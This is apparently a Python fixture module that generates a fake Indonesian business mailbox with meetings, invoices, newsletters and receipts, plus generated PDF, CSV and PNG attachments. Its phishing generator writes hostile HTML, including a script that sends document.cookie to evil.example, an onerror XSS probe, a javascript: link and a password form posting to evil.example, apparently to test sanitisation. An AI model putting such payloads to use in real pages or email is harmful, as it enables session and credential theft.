"""What the generated mailbox says: contacts, kinds of conversation and their texts.

Each kind of conversation (meetings, invoices, newsletters, phishing...) has subjects, a
length, labels and a function that writes the body of its n-th message; attachments
(PDF, CSV, PNG) are generated as small valid files. ``seed`` strings them into threads and
``seed_mime`` turns each body into MIME.
"""

from __future__ import annotations

import hashlib
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta, timezone

WIB = timezone(timedelta(hours=7))
"""Western Indonesian Time, the demo users' zone."""


@dataclass(frozen=True, slots=True)
class Contact:
    """Someone who writes to, or is written to by, the mailbox owner."""

    name: str
    email: str


CONTACTS = (
    Contact("Siti Rahayu", "siti.rahayu@nusantara-logistik.test"),
    Contact("Budi Santoso", "budi.santoso@nusantara-logistik.test"),
    Contact("Ayu Lestari", "ayu.lestari@kopi-senja.test"),
    Contact("Dewi Anggraini", "dewi@anggraini-konsultan.test"),
    Contact("Rizky Pratama", "rizky.pratama@nusantara-logistik.test"),
    Contact("I Made Wirawan", "made.wirawan@bali-tour.test"),
    Contact("José Álvarez", "jose.alvarez@example.com"),
    Contact("Zoë Müller", "zoe.mueller@example.org"),
    Contact("Nguyễn Thị Hoa", "hoa.nguyen@example.net"),
    Contact("王芳", "wang.fang@example.com"),
)
NEWSLETTERS = (
    Contact("Nusantara Deals", "promo@deals.example"),
    Contact("Tech Weekly", "newsletter@techweekly.example"),
    Contact("Warung Kopi Senja", "kabar@kopi-senja.test"),
)


@dataclass(slots=True)
class Body:
    """What one message says, before MIME assembly."""

    plain: str | None
    html: str | None = None
    attachments: list[tuple[str, str, bytes]] = field(default_factory=list)
    inline: list[tuple[str, str, bytes]] = field(default_factory=list)  # (cid, name, png)
    extra_headers: list[tuple[str, str]] = field(default_factory=list)


@dataclass(frozen=True, slots=True)
class Kind:
    """A kind of conversation: how long, which labels, and what each message says."""

    name: str
    weight: float
    subjects: tuple[str, ...]
    length: tuple[int, int]
    labels: tuple[str, ...]
    body: Callable[[random.Random, int, Contact, str], Body]
    owner_may_start: bool = True
    senders: tuple[Contact, ...] = ()


# -- message bodies ---------------------------------------------------------------------


def _meeting(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    day = rng.choice(["Senin", "Selasa", "Rabu", "Kamis", "Jumat"])
    hour = rng.randint(9, 16)
    replies = [
        f"Halo tim,\n\nKita adakan rapat hari {day} pukul {hour}.00 WIB di ruang Merapi "
        f"lantai 3. Agenda: anggaran kuartal, target penjualan, dan rencana kantor Jakarta.\n\n"
        f"Mohon siapkan data masing-masing.\n\nSalam,\n{sender.name}",
        f"Terima kasih, saya bisa hadir. Saya akan bawa ringkasan biaya operasional.\n\n"
        f"{sender.name}",
        f"Bisa dimundurkan ke pukul {hour + 1}.00? Saya ada panggilan dengan klien "
        f"sebelumnya.\n\nSalam,\n{sender.name}",
        f"Oke, jadwal baru sudah saya kirim. Sampai jumpa!\n\n{sender.name}",
    ]
    plain = replies[min(position, len(replies) - 1)]
    html = "<div dir=\"ltr\">" + "".join(
        f"<p>{line}</p>" for line in plain.split("\n\n")
    ) + "</div>"
    return Body(plain=plain, html=html)


def _invoice(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    number = f"INV-{rng.randint(2024, 2025)}-{rng.randint(1, 9999):04d}"
    amount = rng.randint(5, 250) * 100_000
    if position:
        return Body(plain=f"Terima kasih, pembayaran untuk {number} sudah kami proses.\n\n"
                           f"{sender.name}")
    plain = (
        f"Yth. Bapak/Ibu,\n\nBersama ini kami kirimkan tagihan {number} sebesar "
        f"Rp {amount:,}".replace(",", ".") + ".\nJatuh tempo: 14 hari sejak tanggal tagihan.\n\n"
        f"Hormat kami,\n{sender.name}"
    )
    return Body(plain=plain, attachments=[
        (f"{number}.pdf", "application/pdf", _pdf(rng, f"Tagihan {number}")),
    ])


def _client(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    if position == 0:
        plain = (
            f"Hi,\n\nAttached is the updated pipeline for next quarter. The numbers for "
            f"Surabaya and Medan moved a bit since our last call.\n\nBest regards,\n{sender.name}"
        )
        csv_name = "Rincian biaya – Jakarta.csv" if rng.random() < 0.4 else "pipeline-q3.csv"
        return Body(plain=plain, html="<p>" + plain.replace("\n\n", "</p><p>") + "</p>",
                     attachments=[(csv_name, "text/csv", _csv(rng))])
    options = [
        f"Thanks! Could we review the Medan figures on Thursday?\n\n{sender.name}",
        f"Looks good to me. I'll forward it to finance.\n\n{sender.name}",
        f"One question about the discount on line 4 — is that final?\n\n{sender.name}",
    ]
    return Body(plain=rng.choice(options))


def _travel(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    code = "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
    cid = f"logo.{rng.getrandbits(40):010x}@bali-tour.test"
    plain = (f"Itinerary {code}\nJakarta (CGK) → Denpasar (DPS)\nBoarding 07.15 WIB, "
             f"gate 4\n\nSelamat jalan!")
    html = (
        f'<html><body><img src="cid:{cid}" alt="Bali Tour" width="120">'
        f"<h2>Itinerary {code}</h2><p>Jakarta (CGK) &rarr; Denpasar (DPS)</p>"
        f"<p>Boarding 07.15 WIB, gate 4</p><p>Selamat jalan!</p></body></html>"
    )
    return Body(plain=plain, html=html, inline=[(cid, "logo.png", _png(rng, 24))])


def _newsletter(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    token = hashlib.sha256(str(rng.random()).encode()).hexdigest()[:24]
    domain = sender.email.split("@")[1]
    discount = rng.choice([10, 20, 25, 50])
    plain = (f"Diskon {discount}% untuk semua produk minggu ini!\n\nBelanja sekarang: "
             f"https://{domain}/promo\n\nBerhenti berlangganan: https://{domain}/unsub/{token}")
    html = (
        f"<html><body><h1>Diskon {discount}%</h1><p>Untuk semua produk minggu ini!</p>"
        f'<p><a href="https://{domain}/promo?utm_source=email">Belanja sekarang</a></p>'
        f'<img src="https://tracker.example/open/{token}.gif" width="1" height="1" alt="">'
        f'<p><a href="https://{domain}/unsub/{token}">Berhenti berlangganan</a></p>'
        "</body></html>"
    )
    return Body(plain=plain, html=html, extra_headers=[
        ("List-Id", f"{sender.name} <news.{domain}>"),
        ("List-Unsubscribe", f"<https://{domain}/unsub/{token}>, "
                             f"<mailto:unsubscribe@{domain}?subject={token}>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
    ])


def _photos(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    count = rng.randint(1, 3)
    return Body(
        plain=f"Ini foto-foto dari acara kemarin 😊\n\n{sender.name}",
        attachments=[(f"IMG_{rng.randint(1000, 9999)}.png", "image/png", _png(rng, 36))
                     for _ in range(count)],
    )


def _phishing(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    html = (
        "<html><body><p>Akun Anda akan diblokir dalam 24 jam.</p>"
        "<script>document.location='https://evil.example/steal?c='+document.cookie</script>"
        '<img src="https://evil.example/x.png" onerror="alert(document.domain)">'
        '<p><a href="javascript:alert(\'verifikasi\')">Verifikasi sekarang</a></p>'
        '<form action="https://evil.example/login"><input name="password"></form>'
        "</body></html>"
    )
    return Body(plain=None, html=html)


def _personal(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    options = [
        "Apa kabar? Besok ngopi di kafé dekat kantor, jam 4 sore? ☕",
        "¡Hola! Nos vemos el jueves en la reunión. Saludos desde Bogotá.",
        "Grüße aus München! Die Präsentation war großartig.",
        "Selamat ulang tahun! Semoga sehat selalu dan sukses. 🎉",
        "Chúc mừng năm mới! Hẹn gặp lại ở Jakarta.",
    ]
    return Body(plain=f"{rng.choice(options)}\n\n{sender.name}")


def _receipt(rng: random.Random, position: int, sender: Contact, subject: str) -> Body:
    amount = rng.randint(20, 900) * 1000
    html = (
        "<html><body><table><tr><td>Tanda terima pembayaran</td></tr>"
        f"<tr><td>Total: Rp&nbsp;{amount:,}</td></tr>".replace(",", ".")
        + "<tr><td>Terima kasih &amp; sampai jumpa lagi!</td></tr></table></body></html>"
    )
    return Body(plain=None, html=html)


KINDS: tuple[Kind, ...] = (
    Kind("meeting", 2.5, ("Rapat anggaran kuartal", "Jadwal rapat tim Jakarta",
                         "Rencana kerja minggu depan"), (2, 5),
          ("user:Team/Jakarta", "CATEGORY_PERSONAL"), _meeting),
    Kind("invoice", 2, ("Tagihan bulan ini", "Invoice pembayaran layanan"), (1, 2),
          ("user:Invoices", "IMPORTANT", "CATEGORY_UPDATES"), _invoice, owner_may_start=False),
    Kind("client", 3, ("Q3 pipeline update", "Proposal revisi — PT Nusantara",
                        "Contract renewal"), (2, 4),
          ("user:Clients", "IMPORTANT", "CATEGORY_PERSONAL"), _client),
    Kind("travel", 1.5, ("Itinerary perjalanan Anda", "Konfirmasi pemesanan hotel"), (1, 1),
          ("user:Travel", "CATEGORY_UPDATES"), _travel, owner_may_start=False,
          senders=(Contact("Bali Tour & Travel", "booking@bali-tour.test"),)),
    Kind("newsletter", 3, ("Promo akhir pekan 🔥", "This week in tech", "Kabar terbaru"),
          (1, 1), ("user:Newsletters", "CATEGORY_PROMOTIONS"), _newsletter,
          owner_may_start=False, senders=NEWSLETTERS),
    Kind("photos", 1, ("Foto acara 🎉", "Foto-foto kemarin"), (1, 3),
          ("CATEGORY_SOCIAL",), _photos),
    Kind("phishing", 0.7, ("Verifikasi akun Anda segera", "Security alert: confirm now"),
          (1, 1), ("CATEGORY_UPDATES",), _phishing, owner_may_start=False,
          senders=(Contact("Tim Keamanan Akun", "security@akun-verifikasi.example"),)),
    Kind("personal", 2, ("Café besok? ☕", "Salam dari Bogotá", "Selamat ulang tahun!"),
          (1, 3), ("CATEGORY_PERSONAL",), _personal),
    Kind("receipt", 1.5, ("Tanda terima pembayaran", "Your receipt"), (1, 1),
          ("user:Receipts", "CATEGORY_UPDATES"), _receipt, owner_may_start=False,
          senders=(Contact("Warung Kopi Senja", "struk@kopi-senja.test"),)),
)


# -- generated attachment bytes ---------------------------------------------------------


def _png(rng: random.Random, side: int) -> bytes:
    """Return a valid ``side``×``side`` RGB PNG with noisy, deterministic pixels."""
    base = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
    rows = []
    for y in range(side):
        row = bytearray(b"\x00")
        for x in range(side):
            noise = rng.getrandbits(6)
            row += bytes(((base[0] + x * 4 + noise) & 255, (base[1] + y * 4) & 255,
                          (base[2] + noise * 3) & 255))
        rows.append(bytes(row))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"".join(rows), 6)) + chunk(b"IEND", b""))


def _pdf(rng: random.Random, title: str) -> bytes:
    """Return a small, valid one-page PDF showing ``title`` and a table of amounts."""
    lines = [f"({title}) Tj"] + [
        f"0 -18 Td (Item {i + 1}: Rp {rng.randint(1, 99) * 10000}) Tj" for i in range(40)
    ]
    stream = ("BT /F1 12 Tf 72 760 Td " + " ".join(lines) + " ET").encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def _csv(rng: random.Random) -> bytes:
    """Return a CSV of a sales pipeline."""
    cities = ["Jakarta", "Surabaya", "Medan", "Bandung", "Makassar", "Denpasar"]
    rows = ["kota,produk,jumlah,nilai_rp"]
    for _ in range(60):
        rows.append(f"{rng.choice(cities)},Paket {rng.choice('ABCD')},{rng.randint(1, 90)},"
                    f"{rng.randint(1, 500) * 100000}")
    return ("\r\n".join(rows) + "\r\n").encode("utf-8")
